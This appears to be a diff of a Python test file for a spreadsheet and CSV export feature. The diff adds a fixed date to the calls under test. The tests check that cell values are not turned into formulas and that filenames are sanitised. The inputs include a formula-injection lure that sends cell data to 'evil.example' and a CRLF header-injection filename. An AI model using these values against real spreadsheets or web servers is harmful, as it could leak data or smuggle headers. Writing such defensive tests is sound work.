@@ -25,6 +25,7 @@ from servicegraph.reports.workbook import (
 )
 
 LURE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+DAY = datetime.date(2026, 11, 28)
 ADDRESS = "https://example.org/id/service/night-chat"
 
 
@@ -36,19 +37,19 @@ def opened(content: bytes) -> Workbook:
     "value", [LURE, "+1", "-1+2", "@SUM(A1)", "{=A1}", ADDRESS, "mailto:a@b.fi", "0123", "internal:A1"]
 )
 def test_text_stays_text_in_a_workbook(value: str) -> None:
-    page = opened(workbook([Sheet("A", ["Head"], [[value]])], [("Note", value)], "en"))["A"]
+    page = opened(workbook([Sheet("A", ["Head"], [[value]])], [("Note", value)], "en", DAY))["A"]
     assert page["A2"].value == value
     assert page["A2"].data_type == "s"
     assert page["A2"].hyperlink is None
 
 
 def test_numbers_are_numbers_and_what_is_not_there_is_empty() -> None:
-    page = opened(workbook([Sheet("A", ["a", "b", "c"], [[-3, 0.25, None]])], [], "en"))["A"]
+    page = opened(workbook([Sheet("A", ["a", "b", "c"], [[-3, 0.25, None]])], [], "en", DAY))["A"]
     assert [cell.value for cell in page[2]] == [-3, 0.25, None]
 
 
 def test_table_has_a_frozen_head_filters_and_widths_that_fit() -> None:
-    page = opened(workbook([Sheet("A", ["Name", "n"], [["x" * 200, 1], ["short", 2]])], [], "en"))["A"]
+    page = opened(workbook([Sheet("A", ["Name", "n"], [["x" * 200, 1], ["short", 2]])], [], "en", DAY))["A"]
     assert page.freeze_panes == "A2"
     assert [table.ref for table in page.tables.values()] == ["A1:B3"]
     assert page.column_dimensions["A"].width > page.column_dimensions["B"].width
@@ -56,20 +57,20 @@ def test_table_has_a_frozen_head_filters_and_widths_that_fit() -> None:
 
 
 def test_heads_that_are_alike_are_told_apart() -> None:
-    page = opened(workbook([Sheet("A", ["Name", "name", "", "Name"], [["1", "2", "3", "4"]])], [], "en"))["A"]
+    page = opened(workbook([Sheet("A", ["Name", "name", "", "Name"], [["1", "2", "3", "4"]])], [], "en", DAY))["A"]
     heads = [cell.value for cell in page[1]]
     assert len({str(head).casefold() for head in heads}) == 4
 
 
 def test_sheet_of_information_stands_last_in_the_language_asked_for() -> None:
     sheets = [Sheet("Aukot", ["a"], [])]
-    assert opened(workbook(sheets, [("Kysymys", "Mitä?"), ("Tyhjä", "")], "fi")).sheetnames == ["Aukot", "Tietoja"]
-    page = opened(workbook(sheets, [("Kysymys", "Mitä?"), ("Tyhjä", "")], "sv"))["Information"]
+    assert opened(workbook(sheets, [("Kysymys", "Mitä?"), ("Tyhjä", "")], "fi", DAY)).sheetnames == ["Aukot", "Tietoja"]
+    page = opened(workbook(sheets, [("Kysymys", "Mitä?"), ("Tyhjä", "")], "sv", DAY))["Information"]
     assert [[cell.value for cell in row] for row in page.rows] == [["Kysymys", "Mitä?"]]
 
 
 def test_many_rows_are_written_too() -> None:
-    page = opened(workbook([Sheet("A", ["n"], [[number] for number in range(10_050)])], [], "en"))["A"]
+    page = opened(workbook([Sheet("A", ["n"], [[number] for number in range(10_050)])], [], "en", DAY))["A"]
     assert page.max_row == 10_051
     assert page["A10051"].value == 10_049
     assert page.freeze_panes == "A2"
@@ -82,7 +83,9 @@ def little() -> Catalogue:
 
 @given(st.text(max_size=60), st.text(max_size=60), st.text())
 def test_any_names_and_texts_make_a_workbook_that_can_be_read(name: str, other: str, value: str) -> None:
-    content = workbook([Sheet(name, [other, other], [[value, value]]), Sheet(name, [value], [])], [(name, value)], "sv")
+    content = workbook(
+        [Sheet(name, [other, other], [[value, value]]), Sheet(name, [value], [])], [(name, value)], "sv", DAY
+    )
     assert len(opened(content).sheetnames) == 3
 
 
@@ -122,8 +125,7 @@ def test_answer_without_rows_is_a_file_with_heads(little: Catalogue) -> None:
 
 
 def test_file_is_named_so_that_every_system_takes_it() -> None:
-    day = datetime.date(2026, 11, 28)
-    assert saved_as('Käyttö: äö/"\r\nX-Evil: 1', day, "xlsx") == {
+    assert saved_as('Käyttö: äö/"\r\nX-Evil: 1', DAY, "xlsx") == {
         "Content-Disposition": 'attachment; filename="kaytto-ao-x-evil-1-2026-11-28.xlsx"'
     }
-    assert "servicegraph-" in saved_as("→", day, "csv")["Content-Disposition"]
+    assert "servicegraph-" in saved_as("→", DAY, "csv")["Content-Disposition"]
